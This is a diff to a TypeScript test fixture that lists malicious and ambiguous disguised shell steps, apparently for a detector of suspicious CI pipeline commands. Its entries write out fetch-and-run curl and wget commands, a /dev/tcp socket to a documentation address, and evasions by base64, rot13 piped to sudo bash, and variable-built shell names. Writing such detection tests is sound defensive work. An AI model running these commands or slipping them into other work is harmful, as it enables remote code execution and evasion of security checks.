@@ -45,6 +45,7 @@ export const maliciousDisguiseScenarios = scenarios('malicious', 'disguise', [
   ['a step that hands over a file in /var/tmp', step('bash /var/tmp/a.sh')],
   ['a step that downloads from an address without a scheme', step('curl 203.0.113.9/a -o a; sh a')],
   ['a step that hides a network file in quotes', step("exec 3<>/dev/t''cp/203.0.113.9/443")],
+  ['a step that decodes with two letters', step('base64 -di x > y')],
   ['a step that reads a file of /tmp', step('sh < /tmp/x')],
   ['a step that pipes a file of /tmp', step('cat /tmp/x | sh')],
   ['a step that runs what a file of /tmp says', step('$(cat /tmp/x)')],
@@ -127,6 +128,10 @@ export const quietDisguiseScenarios = scenarios('ambiguous', 'disguise', [
   ['a step that runs what it fetched', step('curl https://x.example.net/a > a; sh a')],
   ['a step that runs what it fetched beside it', step('wget https://x.example.net/a; ./a')],
   ['a step that copies a file of /tmp home', step('cp /tmp/x ~/.local/bin/x; x')],
+  ['a step that unpacks its code', step('gzip -dc x.gz | sh')],
+  ['a step that turns its code', step('echo uggc | tr a-z n-za-m | sudo bash')],
+  ['a step whose shell is a variable', step('a=s; b=h; cat x | $a$b')],
+  ['a step that hands a variable to a shell', step('bash <<< "$X"')],
   ['a step with /tmp in a variable', step('T=/tmp; $T/x')],
   ['a step with a module for node', step('NODE_OPTIONS=--require=./x.js npm run deploy')],
   [
@@ -147,6 +152,10 @@ export const quietDisguiseScenarios = scenarios('ambiguous', 'disguise', [
   [
     "systemd's helper in another place",
     below('bash', '/usr/bin/bash /usr/local/lib/systemd-update-helper system-reload', 'python3.9'),
+  ],
+  [
+    "a task of Azure Pipelines in a person's home, below node",
+    ran('mallory', USER_ENABLE, 'bash', `bash /home/mallory/_work/_temp/${GUID}.sh`, 'node'),
   ],
   [
     "Terraform's script below java",
